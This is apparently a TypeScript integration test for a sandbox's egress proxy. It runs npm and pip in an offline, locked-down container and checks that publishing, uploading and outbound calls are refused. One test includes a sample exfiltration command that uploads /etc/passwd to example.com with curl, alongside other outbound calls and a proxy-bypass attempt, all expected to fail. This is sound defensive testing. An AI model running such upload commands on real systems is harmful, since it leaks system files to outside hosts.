import { execFile } from 'node:child_process'
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import http from 'node:http'
import http2 from 'node:http2'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Duplex, PassThrough } from 'node:stream'
import { text } from 'node:stream/consumers'
import { promisify } from 'node:util'
import type { ProjectId } from '@guildhall/protocol/ids.ts'
import Docker from 'dockerode'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { newId } from '../../../platform/ids.ts'
import { createLog } from '../../../platform/log.ts'
import { createSandboxImage } from '../image.ts'
import { createEgress, type Egress } from './egress.ts'

/** Real npm and pip in a real container without a network, against a registry that is played on loopback. */

// npm starts a process and unpacks files: on a busy machine that takes longer than a unit test may.
vi.setConfig({ testTimeout: 120_000 })

const run = promisify(execFile)
const docker = new Docker()
const log = createLog({ level: 'silent' })
const refusals: string[] = []
let folder: string
let registry: http.Server
let egress: Egress
let box: Docker.Container
let asked: string[]

/** Two packages, one of them scoped and needed by the other, as their publisher would have packed them. */
async function pack(name: string, dependencies: Record<string, string>) {
  const source = await mkdtemp(join(folder, 'package-'))
  const manifest = { name, version: '1.2.3', main: 'index.js', dependencies }
  await writeFile(join(source, 'package.json'), JSON.stringify(manifest))
  await writeFile(join(source, 'index.js'), `module.exports = ${JSON.stringify(name)}\n`)
  const { stdout } = await run('npm', ['pack', '--json', '--loglevel=silent'], { cwd: source })
  const [packed] = JSON.parse(stdout) as [{ filename: string; integrity: string; shasum: string }]
  return { name, manifest, bytes: await readFile(join(source, packed.filename)), ...packed }
}

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'inside-'))
  const packages = [await pack('tiny', { '@of/tinier': '^1.0.0' }), await pack('@of/tinier', {})]
  asked = []
  registry = http.createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`)
    const path = decodeURIComponent(request.url ?? '')
    const document = packages.find(({ name }) => path === `/${name}`)
    const file = packages.find(({ name }) => path === `/${name}/-/${name.split('/').at(-1)}-1.2.3.tgz`)
    if (file) return response.end(file.bytes)
    if (!document) return response.writeHead(404).end('{}')
    const { name, manifest, integrity, shasum } = document
    const tarball = `http://${request.headers.host}/${name}/-/${name.split('/').at(-1)}-1.2.3.tgz`
    const versions = { '1.2.3': { ...manifest, dist: { tarball, integrity, shasum } } }
    return response.end(JSON.stringify({ name, 'dist-tags': { latest: '1.2.3' }, versions }))
  })
  await new Promise<void>((done) => registry.listen(0, '127.0.0.1', done))

  await mkdir(join(folder, 'index/simple/nothing-much'), { recursive: true })
  await writeFile(join(folder, 'index/simple/nothing-much/index.html'), '<a href="../../nothing_much-1.0.tar.gz">x</a>')

  egress = createEgress({
    npmRegistry: `http://127.0.0.1:${(registry.address() as AddressInfo).port}/`,
    pypiIndex: join(folder, 'index/simple'),
    cacheDir: join(folder, 'cache'),
    allowedHosts: () => [],
    onRefused: (_projectId, { target, reason }) => void refusals.push(`${target} | ${reason}`),
    log,
  })
  const hasImage = async (name: string) => (await docker.listImages({ filters: { reference: [name] } })).length > 0
  const image = createSandboxImage({ hasImage, dockerHost: null, image: 'guildhall-sandbox', baseImage: null, log })
  box = await docker.createContainer({
    Image: await image.ensure(),
    User: '20998:20998',
    Env: ['HOME=/tmp/home'],
    Labels: { 'guildhall.test': '1' },
    HostConfig: {
      Init: true,
      NetworkMode: 'none',
      ReadonlyRootfs: true,
      CapDrop: ['ALL'],
      SecurityOpt: ['no-new-privileges:true'],
      Tmpfs: {
        '/tmp': 'rw,exec,nosuid,nodev,size=512m,mode=1777',
        '/run': 'rw,noexec,nosuid,nodev,size=16m,mode=1777',
      },
    },
  })
  await box.start()
  await inside('until [ -S /run/guildhall/egress.sock ]; do sleep 0.05; done')
  const exec = await box.exec({
    Cmd: ['socat', '-', 'UNIX-CONNECT:/run/guildhall/egress.sock'],
    AttachStdin: true,
    AttachStdout: true,
    AttachStderr: true,
  })
  const bridge = await exec.start({ hijack: true, stdin: true })
  const [output, errors] = [new PassThrough(), new PassThrough()]
  docker.modem.demuxStream(bridge, output, errors)
  const session = http2.performServerHandshake(Duplex.from({ readable: output, writable: bridge }))
  egress.attach(newId<ProjectId>(), session)
}, 900_000)

afterAll(async () => {
  await box?.remove({ force: true })
  await egress?.close()
  registry?.close().closeAllConnections()
  await rm(folder, { recursive: true, force: true })
})

/** Runs a shell command in the container; its words and its exit code. */
async function inside(command: string) {
  const exec = await box.exec({ Cmd: ['sh', '-c', command], AttachStdout: true, AttachStderr: true })
  const stream = await exec.start({})
  const output = new PassThrough()
  docker.modem.demuxStream(stream, output, output)
  stream.on('end', () => output.end())
  const said = await text(output)
  return { said, code: (await exec.inspect()).ExitCode }
}

test('npm installs through the mirror, and the lockfile names neither the mirror nor the upstream', async () => {
  const install = await inside('mkdir -p /tmp/a && cd /tmp/a && npm init -y >/dev/null && npm install tiny')
  expect([install.said, install.code]).toEqual([expect.stringContaining('added 2 packages'), 0])
  const lock = (await inside('cat /tmp/a/package-lock.json')).said
  expect(Object.keys(JSON.parse(lock).packages)).toEqual(['', 'node_modules/@of/tinier', 'node_modules/tiny'])
  expect(lock).not.toMatch(/127\.0\.0\.1|localhost|4873/)
  expect((await inside(`cd /tmp/a && node -p "require('tiny') + require('@of/tinier')"`)).said).toBe('tiny@of/tinier\n')
})

test('a lockfile is installed again from the cache while the upstream is down', async () => {
  await new Promise((done) => registry.close(done).closeAllConnections())
  const again = await inside('cd /tmp/a && rm -rf node_modules ~/.npm && npm ci')
  expect([again.said, again.code]).toEqual([expect.stringContaining('added 2 packages'), 0])
})

test('publishing, uploading and calling out are refused and told', async () => {
  refusals.length = 0
  const login = '--//127.0.0.1:4873/:_authToken=x'
  const publish = await inside(`cd /tmp/a && npm publish --fetch-retries=0 ${login}`)
  expect([publish.said, publish.code]).toEqual([expect.stringContaining('405'), 1])
  const calls = [
    'curl -sS -m 5 https://example.com',
    'curl -sS -m 5 -T /etc/passwd http://example.com/upload -f',
    `node -e "fetch('https://nonce-1234.example.org').catch(e => { console.error(e.cause ?? e); process.exit(1) })"`,
    `python3 -c "import urllib.request; urllib.request.urlopen('https://example.net')"`,
  ]
  for (const call of calls) expect([call, (await inside(call)).code]).not.toEqual([call, 0])
  expect(refusals).toEqual([
    expect.stringMatching(/^PUT \/a \| The package mirrors are read-only$/),
    'example.com:443 | This host is not on the list of the project',
    'example.com/upload | Plain http is not passed on; use https',
    'nonce-1234.example.org:443 | This host is not on the list of the project',
    'example.net:443 | This host is not on the list of the project',
  ])
})

test('without the proxy there is no way out at all', async () => {
  const past =
    "curl -sS -m 3 --noproxy '*' http://1.1.1.1; curl -sS -m 3 --noproxy '*' https://example.com; cat /proc/net/dev"
  const { said } = await inside(past)
  expect(said).toMatch(/(?:Failed|Couldn't) .*connect|unreachable/i)
  expect(said).toMatch(/Could not resolve host/)
  expect([...said.matchAll(/^\s*(\w+):/gm)].map(([, device]) => device).filter((name) => name !== 'curl')).toEqual([
    'lo',
  ])
})

test('pip asks the mirror of the configured index', async () => {
  const answer = await inside(
    'curl -sS http://127.0.0.1:4873/pypi/simple/nothing-much/; pip index versions none-such 2>&1',
  )
  expect(answer.said).toContain('href="/pypi/files/nothing-much/nothing_much-1.0.tar.gz"')
  expect(answer.said).toContain('No matching distribution')
})
